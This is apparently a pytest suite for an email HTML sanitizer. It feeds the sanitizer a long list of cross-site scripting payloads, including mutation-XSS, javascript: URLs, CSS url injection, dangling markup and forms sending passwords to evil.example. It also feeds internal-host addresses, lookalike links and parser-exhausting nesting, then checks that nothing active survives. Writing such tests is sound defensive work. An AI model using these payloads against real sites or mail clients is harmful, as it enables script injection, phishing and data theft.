"""A stranger's HTML made safe: whatever it is made of, what comes out shows and does nothing else. Read back by another parser."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from truepenny.channels.email.reading.html_words import html_to_text
from truepenny.intake.mail.html import MOST_OUT, SafeHtml, make_safe, with_remote
from truepenny.intake.mail.links import leads_elsewhere, safe_address
from truepenny.platform.html_nesting import is_bounded

INLINE = {"logo@acme.example": "/files/f1", "a b": "/files/f2"}
_TAGS = (
    "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font footer"
    " h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th"
    " thead tr tt u ul var wbr"
)
_ATTRIBUTES = (
    "dir lang style align valign bgcolor href data-elsewhere src alt data-remote width height border cellpadding cellspacing colspan"
    " rowspan nowrap span color size start type value target rel"
)
MAY_STAND, MAY_SAY = set(_TAGS.split()), set(_ATTRIBUTES.split())


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words = ""
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def read(html: str | None) -> Reader:
    reader = Reader()
    reader.feed(html or "")
    reader.close()
    return reader


def assert_harmless(safe: SafeHtml) -> Reader:
    reader = read(safe.html)
    for tag, said in reader.tags:
        assert tag in MAY_STAND
        assert set(said) <= MAY_SAY, said
        if "href" in said:
            assert re.match(r"(?i)https?://|mailto:|tel:", said["href"]), said
            assert said["target"] == "_blank"
        if tag == "a":
            assert {"noopener", "noreferrer", "nofollow"} <= set(said["rel"].split())
        if "src" in said:
            assert said["src"] in INLINE.values()
        style = said.get("style", "").lower()
        assert not re.search(r"url|expression|javascript|import|\\|position|z-index|behavior|binding|@|/\*", style), style
    return reader


ATTACKS = {
    "script": "<script>alert(1)</script>words",
    "script in capitals": "<ScRiPt src=https://evil.example/x.js></sCrIpT>words",
    "script unclosed": "words<script>alert(1)",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>words",
    "handler": "<p onclick=alert(1) onmouseover='alert(1)'>words</p>",
    "handler after a slash": "<img/src=x/onerror=alert(1)>words",
    "handler with a strange gap": "<img src=x\x0conerror=alert(1)>words",
    "body onload": "<body onload=alert(1)>words",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>words",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>words",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>words",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>words",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>words",
    "math and annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml>words",
    "math href": "<math href='javascript:alert(1)'>x</math>words",
    "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>words",
    "mutation by p in svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>words",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>words",
    "mutation by textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>words",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>words</xmp>words",
    "mutation by title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>words",
    "mutation by a comment": "<!--><img src=x onerror=alert(1)>-->words",
    "mutation by a comment with a bang": "<!-- --!><img src=x onerror=alert(1)> -->words",
    "mutation by CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>words",
    "mutation by a template": "<template><img src=x onerror=alert(1)></template>words",
    "mutation by a select": "<select><style></select><img src=x onerror=alert(1)></style>words",
    "mutation by depth": "<div>" * 300 + "<table><svg><style><img src=x onerror=alert(1)></style></svg></table>words",
    "mutation by an alt": "<img alt='`><img src=x onerror=alert(1)>'>words",
    "quotes in an alt": "<img alt='\"><script>alert(1)</script>'>words",
    "javascript": "<a href='javascript:alert(1)'>words</a>",
    "javascript with blanks": "<a href=' \x01java\tscr\nipt:alert(1)'>words</a>",
    "javascript in entities": "<a href='&#106;&#x61;vascript&colon;alert(1)'>words</a>",
    "javascript in capitals": "<a href='JaVaScRiPt:alert(1)'>words</a>",
    "javascript behind a null": "<a href='java\x00script:alert(1)'>words</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>words</a>",
    "data address": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>words</a>",
    "file address": "<a href='file:///etc/passwd'>words</a>",
    "blob address": "<a href='blob:https://acme.example/x'>words</a>",
    "relative address": "<a href='/desk/x?do=delete'>words</a>",
    "own page": "<a href='#top'>words</a>",
    "data picture": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>words",
    "picture of the desk": "<img src='/api/desk/me'>words",
    "picture of a file that is not in it": "<img src='/files/f9'>words",
    "unknown content id": "<img src='cid:other@acme.example' alt='x'>words",
    "srcset": "<img srcset='https://evil.example/a.png 2x' src='cid:logo@acme.example'>words",
    "picture element": "<picture><source srcset='https://evil.example/a.webp'><img src='cid:a%20b'></picture>words",
    "background": "<table background='https://evil.example/a.png'><tr><td background=x>words</td></tr></table>",
    "lowsrc and the like": "<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b longdesc=https://evil.example/c>words",
    "usemap": "<img usemap=#m src='cid:a b'><map name=m><area href=https://evil.example shape=default></map>words",
    "css url": "<p style='background-image:url(https://evil.example/a.png)'>words</p>",
    "css url in background": "<p style='background:red url(https://evil.example/a.png)'>words</p>",
    "css url in a list": "<ul style='list-style:url(https://evil.example/a.png)'><li>words</ul>",
    "css url in content": "<p style='content:url(https://evil.example/a.png)'>words</p>",
    "css url in a cursor": "<p style='cursor:url(https://evil.example/a.cur),auto'>words</p>",
    "css url escaped": "<p style='background-color:\\75 rl(https://evil.example/a)'>words</p>",
    "css url behind a comment": "<p style='background-color:u/**/rl(https://evil.example/a)'>words</p>",
    "css image-set": "<p style='background-color:image-set(\"https://evil.example/a\" 1x)'>words</p>",
    "css variable": "<p style='--x:url(https://evil.example/a);color:var(--x)'>words</p>",
    "css expression": "<p style='width:expression(alert(1))'>words</p>",
    "css behaviour": "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#a)'>words</p>",
    "css import": "<style>@import url(https://evil.example/a.css);</style>words",
    "css font": "<style>@font-face{font-family:x;src:url(https://evil.example/a.woff)}</style><p style='font-family:x'>words</p>",
    "overlay": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white'>words</div>",
    "overlay absolute": "<div style='POSITION : absolute !important; inset:0'>words</div>",
    "out of its place": "<div style='margin-top:-500px;transform:translateY(-500px);margin:0 -9px'>words</div>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/a.css>words",
    "prefetch": "<link rel=prefetch href=https://evil.example/a>words",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>words",
    "policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>words",
    "base": "<base href=https://evil.example/ target=_top>words",
    "target": "<a href=https://acme.example target=_top>words</a>",
    "target by name": "<a href=https://acme.example target=desk rel=opener>words</a>",
    "ping": "<a href=https://acme.example ping=https://evil.example download>words</a>",
    "form": "<form action=https://evil.example><input name=password><button formaction=https://evil.example>x</button></form>words",
    "input picture": "<input type=image src=https://evil.example/a.png formaction=https://evil.example>words",
    "isindex": "<isindex action=https://evil.example prompt=x>words",
    "iframe": "<iframe src=https://evil.example></iframe>words",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>words",
    "frameset": "<frameset><frame src=https://evil.example></frameset>",
    "object": "<object data=https://evil.example/a.swf><param name=movie value=x></object>words",
    "object with words": "<object data='data:text/html,<script>alert(1)</script>'>x</object>words",
    "embed": "<embed src=https://evil.example/a.swf>words",
    "applet": "<applet code=x archive=https://evil.example/a.jar></applet>words",
    "video": "<video src=https://evil.example/a.mp4 poster=https://evil.example/a.png autoplay></video>words",
    "audio": "<audio src=https://evil.example/a.mp3 autoplay></audio>words",
    "sound": "<bgsound src=https://evil.example/a.mid>words",
    "marquee": "<marquee onstart=alert(1)>words</marquee>",
    "details": "<details open ontoggle=alert(1)>words</details>",
    "dialog": "<dialog open>words</dialog>",
    "popover": "<div popover id=x>words</div><button popovertarget=x>y</button>",
    "names": "<a name=getElementById id=cookie class=desk>words</a><img name=location>",
    "custom element": "<tp-desk onclick=alert(1)>words</tp-desk>",
    "slot": "<p slot=x is=tp-x part=y>words</p>",
    "editing": "<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=r>words</p>",
    "dangling markup": "<img src='https://evil.example/?words",
    "dangling link": "words<a href='https://evil.example/?",
    "conditional comment": "<!--[if mso]><script>alert(1)</script><![endif]-->words",
    "conditional comment revealed": "<![if !mso]><script>alert(1)</script><![endif]>words",
    "processing instruction": "<?xml-stylesheet href=https://evil.example/a.css?>words",
    "office": "<o:p>words</o:p><v:imagedata src=https://evil.example/a.png />",
    "our own marks": "<img data-remote='javascript:alert(1)'><a data-elsewhere='acme.example' href=https://evil.example>words</a>",
    "null bytes": "<p>wor\x00ds</p><scr\x00ipt>alert(1)</scr\x00ipt>words",
    "attribute twice": "<a href='https://acme.example' href='javascript:alert(1)'>words</a>",
    "a very long address": f"<a href='https://evil.example/{'a' * 9000}'>words</a>",
    "cells without end": "<table><tr><td colspan=100000 rowspan=65000>words</td></tr></table>",
    "giant words": "<p style='font-size:90000px;letter-spacing:9999px;line-height:99999'>words</p>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-words",
    "surrogate": "<p>words \ud800</p>",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_acts_comes_through(name: str) -> None:
    safe = make_safe(ATTACKS[name], inline=INLINE)
    reader = assert_harmless(safe)
    assert "alert(1)" not in "".join(value for _, given in reader.tags for key, value in given.items() if key != "alt")
    assert safe.html is None or "words" in safe.html


@pytest.mark.parametrize("name", ATTACKS)
def test_what_is_safe_stays_the_same_when_it_is_made_safe_again(name: str) -> None:
    once = make_safe(ATTACKS[name], inline=INLINE).html
    if once is not None and "data-" not in once and "/files/" not in once:
        again = make_safe(once, inline=INLINE).html
        assert [(tag, given) for tag, given in read(again).tags] == [(tag, given) for tag, given in read(once).tags]


_PIECES = st.sampled_from(sorted(ATTACKS.values())) | st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "--!>",
        "'",
        '"',
        "`",
        "=",
        "<svg>",
        "</svg>",
        "<math>",
        "<table>",
        "<select>",
        "<style>",
        "</style>",
        "<p>",
        "</p>",
    ]
)


@given(st.lists(_PIECES, max_size=8))
@settings(max_examples=200, deadline=None)
def test_attacks_put_together_are_as_harmless(pieces: list[str]) -> None:
    once = make_safe("".join(pieces), inline=INLINE)
    assert_harmless(once)
    assert_harmless(make_safe(once.html or "", inline=INLINE))


def test_it_keeps_what_a_reader_needs() -> None:
    html = (
        "<html dir=rtl><body bgcolor='#102030' text=white><h1>Offer</h1><p style='color:#f00;font-weight:bold'>red</p>"
        "<table width=600 cellpadding=4><tr><td bgcolor=yellow align=right>1</td></tr></table>"
        "<p>Write to <a href='mailto:help@acme.example'>us</a> or call <a href='tel:+10000'>us</a>.</p>"
        "<img src='cid:logo%40acme.example' alt='Acme' width=40><pre>a  b</pre><ol start=3><li>x</ol></body></html>"
    )
    safe = make_safe(html, inline=INLINE)
    tags = assert_harmless(safe).tags
    assert tags[0] == ("div", {"style": "color:white;background-color:#102030", "dir": "rtl"}), "what stood on the body stands on a box"
    assert ("p", {"style": "color:#f00;font-weight:bold"}) in tags
    assert ("table", {"width": "600", "cellpadding": "4"}) in tags
    assert ("td", {"bgcolor": "yellow", "align": "right"}) in tags
    assert ("img", {"src": "/files/f1", "alt": "Acme", "width": "40"}) in tags
    assert ("ol", {"start": "3"}) in tags
    assert [given["href"] for tag, given in tags if tag == "a"] == ["mailto:help@acme.example", "tel:+10000"]
    assert (safe.remote, safe.trackers, safe.misleading_links) == (0, 0, 0)


def test_remote_pictures_are_not_loaded_until_somebody_asks() -> None:
    safe = make_safe("<img src='http://shop.example/a.png?x=1&y=2' alt=Shoes width=300><img src=//shop.example/b.png>", inline={})
    assert safe.remote == 2
    assert all("src" not in given for _, given in assert_harmless(safe).tags)
    asked = read(with_remote(safe.html or ""))
    assert [given["src"] for _, given in asked.tags] == ["https://shop.example/a.png?x=1&y=2", "https://shop.example/b.png"]


@pytest.mark.parametrize(
    "host",
    [
        "localhost",
        "127.0.0.1",
        "192.168.0.1:8443",
        "[::1]",
        "2130706433",
        "0x7f.1",
        "127.1",
        "printer",
        "wiki.corp",
        "nas.local",
        "10.0.0.1.",
        "a.b@10.0.0.1",
    ],
)
def test_pictures_of_machines_near_the_reader_are_never_asked_for(host: str) -> None:
    assert make_safe(f"words<img src='https://{host}/a.png'>", inline={}).remote == 0
    assert make_safe("words<img src='https://shop.example/a.png'>", inline={}).remote == 1, "the premise: others are"


def test_words_that_look_like_a_kept_picture_stay_words() -> None:
    safe = make_safe('<p>&lt;img data-remote="https://evil.example/a.png"&gt; and data-remote="https://evil.example/b"</p>', inline={})
    assert safe.remote == 0
    assert with_remote(safe.html or "") == safe.html


@pytest.mark.parametrize(
    "picture",
    [
        "<img src=https://shop.example/a.png width=1 height=1>",
        "<img src=https://shop.example/a.png width=0>",
        "<img src=https://shop.example/a.png style='width:1px;height:1px'>",
        "<img src=https://shop.example/a.png style='display: none'>",
        "<img src=https://shop.example/a.png style='opacity:0'>",
        "<img src=https://shop.example/a.png hidden>",
        "<div style='display:none'><p><img src=https://shop.example/a.png></p></div>",
        "<img src=https://mail.shop.example/wf/open?upn=abc>",
        "<img src=https://shop.example/track/open.php?u=1&id=2>",
        "<img src=https://shop.example/e/open/abc>",
        "<img src=https://shop.example/pixel.gif?id=3>",
    ],
)
def test_what_only_tells_that_a_mail_was_read_is_dropped_and_counted(picture: str) -> None:
    safe = make_safe(f"<p>words</p>{picture}<img src=https://shop.example/shoes.png>", inline={})
    assert (safe.remote, safe.trackers) == (1, 1)


@pytest.mark.parametrize(
    ("words", "address", "host"),
    [
        ("https://acme.example/login", "https://evil.example/login", "evil.example"),
        ("acme.example", "https://acme.example.evil.example/", "acme.example.evil.example"),
        ("www.acme.example", "https://acme.example@evil.example/", "evil.example"),
        ("acme.example", "https://acme.example\\@evil.example/", None),
        ("acme.example", "https://evil.example\\@acme.example/", "evil.example"),
        ("support@acme.example", "mailto:support@evil.example", "evil.example"),
        ("Log in at acme.example now", "https://click.mailer.example/x", "click.mailer.example"),
        ("ａｃｍｅ.example", "https://evil.example", "evil.example"),
        ("ac\u200bme.example", "https://evil.example", "evil.example"),
        ("elpmaxe.emca\u202e", "https://evil.example", "evil.example"),
        ("acme.example", "https://\u0430cme.example", "xn--cme-5cd.example"),
        ("bank.co.uk", "https://evil.co.uk", "evil.co.uk"),
        ("alice.github.io", "https://mallory.github.io", "mallory.github.io"),
        ("www.acme.example", "https://acme.example/x", None),
        ("help.acme.example", "https://www.acme.example/x", None),
        ("support@acme.example", "https://acme.example/contact", None),
        ("Our offer", "https://evil.example", None),
        ("invoice.pdf", "https://acme.example/invoice.pdf", None),
        ("archive.zip", "https://acme.example/a", None),
        ("John.Smith", "https://acme.example", None),
        ("version 1.2.3", "https://acme.example", None),
        ("call acme.example", "tel:+10000", None),
        ("acme.example", "https://[broken", None),
    ],
)
def test_a_link_that_shows_another_domain_than_it_leads_to_is_marked(words: str, address: str, host: str | None) -> None:
    taken = safe_address(address)
    assert taken is not None
    assert leads_elsewhere(words, taken) == host
    safe = make_safe(f"<p><a href='{address}'><b>{words}</b></a></p>", inline={})
    assert safe.misleading_links == (host is not None)
    assert (f'data-elsewhere="{host}"' in (safe.html or "")) == (host is not None)


def test_size_is_bounded_on_both_sides() -> None:
    assert make_safe("<p>" + "word " * 150_000, inline={}).html is not None
    assert make_safe("<p>" + "&lt;" * (MOST_OUT // 4 + 1), inline={}).html is None, "too long when written out"
    assert make_safe("a" * 5_000_000, inline={}).html is None


def test_there_is_no_formatted_version_without_anything_to_see() -> None:
    assert make_safe("<html><head><title>x</title></head><body><p> </p></body></html>", inline={}) == SafeHtml(None)
    assert make_safe("", inline={}) == SafeHtml(None)
    assert make_safe("<img src='cid:a b'>", inline=INLINE).html is not None


DEEP = {
    "boxes": "<div>" * 19_000,
    "boxes with an end in a comment": "<div><!--</div>-->" * 9_000,
    "boxes with an end in an attribute": "<div><p x='</div>'>" * 9_000,
    "boxes with an end in a script": "<div><script></div></script>" * 9_000,
    "boxes with an end that is none": "<div></div\u00a0>" * 9_000,
    "boxes with an end in a foreign letter": "<kbd></\u212abd>" * 9_000,
    "boxes in svg": "<svg>" + "<g></div>" * 9_000,
    "formatting opened again and again": "".join(f"<font color={n}>" for n in range(3000)) + "<p>x" * 3000,
    "too many": "<br>" * 100_000,
}


@pytest.mark.parametrize("name", DEEP)
def test_html_that_would_keep_a_parser_busy_is_never_parsed(name: str) -> None:
    assert not is_bounded(DEEP[name])
    assert make_safe(DEEP[name], inline={}).html is None


def test_ordinary_html_is_not_taken_for_it() -> None:
    rows = "<tr><td align=left style='color:red'><a href='https://shop.example/x'>Shoes</a><br><p>10 USDT<p>each<li>x</td></tr>" * 2000
    assert is_bounded(f"<html><body><table>{rows}</table></body></html>")
    assert is_bounded("<blockquote><div><font>x</font>" * 50 + "</div></blockquote>" * 50)


def test_the_time_it_takes_grows_with_the_length_only() -> None:
    def cost(rows: int) -> float:
        html = (
            "<div>" * 300
        ) + "<p><font color=red>x</font></div><img src=https://shop.example/a.png><a href=https://a.example>b.example</a>" * rows
        began = time.process_time()
        assert make_safe(html, inline={}).html
        return time.process_time() - began

    cost(10)
    assert cost(3200) < max(0.5, 12 * cost(800))


@pytest.mark.parametrize("name", DEEP)
def test_the_words_of_such_html_are_read_without_a_parser(name: str) -> None:
    faults: set[str] = set()
    began = time.process_time()
    assert "Hello & goodbye" in html_to_text(f"{DEEP[name]}Hello &amp; <b>goodbye</b>", faults).replace("  ", " ")
    assert faults == {"too_deep"}
    assert time.process_time() - began < 2
